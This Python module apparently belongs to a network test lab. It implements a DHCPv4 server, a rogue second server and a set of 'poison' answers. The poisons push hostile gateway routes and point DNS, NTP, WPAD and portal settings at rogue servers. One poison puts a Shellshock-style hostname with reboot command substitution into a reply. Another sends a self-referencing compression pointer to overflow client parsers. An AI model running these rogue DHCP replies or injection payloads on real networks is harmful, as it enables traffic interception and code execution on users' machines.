# SPDX-License-Identifier: GPL-3.0-or-later
"""DHCPv4: a server that leases the LAN's addresses, honestly or not, and a client's messages."""

from __future__ import annotations

import ipaddress
import secrets
import socket
import struct
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field

from . import names

SERVER_PORT, CLIENT_PORT = 67, 68
BOOT_REQUEST, BOOT_REPLY = 1, 2
DISCOVER, OFFER, REQUEST, ACK = 1, 2, 3, 5
_COOKIE = b"\x63\x82\x53\x63"
_HEADER = struct.Struct("!4BIHH4s4s4s4s16s64s128s")

OPTION_MASK, OPTION_ROUTER, OPTION_DNS, OPTION_HOSTNAME = 1, 3, 6, 12
OPTION_DOMAIN, OPTION_MTU, OPTION_STATIC_ROUTE, OPTION_NTP = 15, 26, 33, 42
OPTION_REQUESTED, OPTION_LEASE_TIME, OPTION_TYPE, OPTION_SERVER = 50, 51, 53, 54
OPTION_NETBIOS, OPTION_PORTAL = 44, 114
OPTION_SEARCH, OPTION_CLASSLESS_ROUTES, OPTION_MS_ROUTES, OPTION_WPAD = 119, 121, 249, 252
_PAD, _END = 0, 255
_HUGE_BYTES = 1000


@dataclass
class Message:
    operation: int
    transaction: int
    mac: bytes
    offered: str = "0.0.0.0"
    options: dict[int, bytes] = field(default_factory=dict)

    def encode(self) -> bytes:
        hardware = self.mac.ljust(16, b"\0")
        zero = bytes(4)
        data = _HEADER.pack(
            self.operation, 1, 6, 0, self.transaction, 0, 0x8000,
            zero, socket.inet_aton(self.offered), zero, zero, hardware, bytes(64), bytes(128),
        ) + _COOKIE  # fmt: skip
        for code, value in self.options.items():
            # RFC 3396: a long option is several of the same code.
            for start in range(0, max(len(value), 1), 255):
                piece = value[start : start + 255]
                data += bytes([code, len(piece)]) + piece
        return data + bytes([_END])


def decode(data: bytes) -> Message | None:
    """None if this is not DHCP."""
    start = _HEADER.size + len(_COOKIE)
    if len(data) < start or data[_HEADER.size : start] != _COOKIE:
        return None
    fields = _HEADER.unpack_from(data)
    options: dict[int, bytes] = {}
    offset = start
    while offset + 1 < len(data) and data[offset] != _END:
        if data[offset] == _PAD:
            offset += 1
            continue
        code, size = data[offset], data[offset + 1]
        options[code] = options.get(code, b"") + data[offset + 2 : offset + 2 + size]
        offset += 2 + size
    return Message(fields[0], fields[4], fields[11][:6], socket.inet_ntoa(fields[8]), options)


def discover(mac: str) -> Message:
    """What a client asks first."""
    options = {OPTION_TYPE: bytes([DISCOVER])}
    hardware = bytes.fromhex(mac.replace(":", ""))
    return Message(BOOT_REQUEST, secrets.randbits(32), hardware, options=options)


class Server:
    """Answers what is asked, and keeps nothing: a node's lease is always the same."""

    identity = names.ROUTER_ADDRESS

    def __init__(self, poisons: Iterable[str] = ()) -> None:
        """@poisons: names of POISONS; what else it says is honest."""
        self._options = _honest_options()
        for poison in sorted(poisons):
            self._options |= POISONS[poison]()

    def reply(self, data: bytes, _: tuple) -> bytes | None:
        question = decode(data)
        if question is None or question.operation != BOOT_REQUEST:
            return None
        kind = {bytes([DISCOVER]): OFFER, bytes([REQUEST]): ACK}.get(
            question.options.get(OPTION_TYPE, b"")
        )
        lease = self._lease(question.mac)
        own = socket.inet_aton(self.identity)
        if kind is None or not lease or question.options.get(OPTION_SERVER, own) != own:
            return None
        answer = Message(BOOT_REPLY, question.transaction, question.mac, lease)
        answer.options = {OPTION_TYPE: bytes([kind])} | self._options
        return answer.encode()

    def _lease(self, mac: bytes) -> str:
        """The address for the asker; empty: it is not answered."""
        return _lease(mac)


class RogueServer(Server):
    """A second one, on another computer of the LAN, that leads past the router. It does not answer
    the lab's own nodes."""

    identity = names.GUEST_ADDRESS

    def __init__(self) -> None:
        super().__init__()
        gateway = socket.inet_aton(names.HOSTILE_GATEWAY)
        self._options |= {OPTION_SERVER: socket.inet_aton(self.identity), OPTION_ROUTER: gateway,
                          OPTION_DNS: gateway}  # fmt: skip

    def _lease(self, mac: bytes) -> str:
        known = {names.MACS[node] for node in names.LAN_NODES}
        return "" if mac.hex(":") in known else names.ROGUE_LEASE


def server_socket(device: str) -> socket.socket:
    """To be called in the router's namespace. Answers are broadcast: clients have no address."""
    result = _Broadcasting(socket.AF_INET, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK)
    result.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    result.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
    result.bind(("0.0.0.0", SERVER_PORT))
    return result


class _Broadcasting(socket.socket):
    def sendto(self, data: bytes, *_: object) -> int:
        return super().sendto(data, ("255.255.255.255", CLIENT_PORT))


def _lease(mac: bytes) -> str:
    text = mac.hex(":")
    node = next((node for node, known in names.MACS.items() if known == text), "")
    return names.DHCP_LEASES.get(node, names.DHCP_OTHER_LEASE)


def _honest_options() -> dict[int, bytes]:
    router = socket.inet_aton(names.ROUTER_ADDRESS)
    return {
        OPTION_SERVER: router,
        OPTION_LEASE_TIME: struct.pack("!I", 3600),
        OPTION_MASK: socket.inet_aton("255.255.255.0"),
        OPTION_ROUTER: router,
        OPTION_DNS: socket.inet_aton(names.LAN_RESOLVER),
    }


def _routes() -> dict[int, bytes]:
    """Routes of one's own, past the default route: in every form that clients know."""
    gateway = socket.inet_aton(names.HOSTILE_GATEWAY)
    routes = _classless_route(names.HOSTILE_ROUTE) + _classless_route("0.0.0.0/1")
    return {
        OPTION_CLASSLESS_ROUTES: routes,
        OPTION_MS_ROUTES: routes,
        OPTION_STATIC_ROUTE: socket.inet_aton(names.TIME_ADDRESS) + gateway,
    }


def _servers() -> dict[int, bytes]:
    """Servers that a client would talk to at once."""
    rogue = socket.inet_aton(names.ROGUE_ADDRESS)
    return {
        OPTION_DNS: rogue,
        OPTION_NTP: rogue,
        OPTION_NETBIOS: rogue,
        OPTION_WPAD: names.HOSTILE_WPAD.encode(),
        OPTION_PORTAL: names.HOSTILE_PORTAL.encode(),
    }


def _names() -> dict[int, bytes]:
    """Names that a careless client gives to a shell, or goes on to tell others."""
    return {
        OPTION_HOSTNAME: b"() { :;}; `reboot` $(reboot) %n%n",
        OPTION_DOMAIN: b"attacker.invalid",
    }


def _search() -> dict[int, bytes]:
    """Domains in which every name would be looked up, well-formed."""
    domains = (b"attacker", b"invalid"), (b"home", b"arpa")
    encoded = b"".join(b"".join(bytes([len(p)]) + p for p in d) + b"\0" for d in domains)
    return {OPTION_DOMAIN: b"attacker.invalid", OPTION_SEARCH: encoded}


def _huge() -> dict[int, bytes]:
    """A compression pointer to itself, then more than a careless client has room for."""
    return {OPTION_SEARCH: b"\xc0\x00" + b"\x3f" + b"a" * _HUGE_BYTES}


def _mtu() -> dict[int, bytes]:
    return {OPTION_MTU: struct.pack("!H", 68)}


# What can be wrong with a server's answers, each by itself.
POISONS: dict[str, Callable[[], dict[int, bytes]]] = {
    "routes": _routes,
    "servers": _servers,
    "names": _names,
    "search": _search,
    "huge": _huge,
    "mtu": _mtu,
}
SECOND_SERVER = "second"  # not of the answers: another server answers, too
# All at once, as the hostile router has it: of two that use the same option, one.
HOSTILE = tuple(name for name in POISONS if name != "search") + (SECOND_SERVER,)


def _classless_route(prefix: str) -> bytes:
    """RFC 3442: as many bytes of the destination as its prefix needs."""
    network = ipaddress.ip_network(prefix)
    significant = (network.prefixlen + 7) // 8
    destination = network.network_address.packed[:significant]
    return bytes([network.prefixlen]) + destination + socket.inet_aton(names.HOSTILE_GATEWAY)
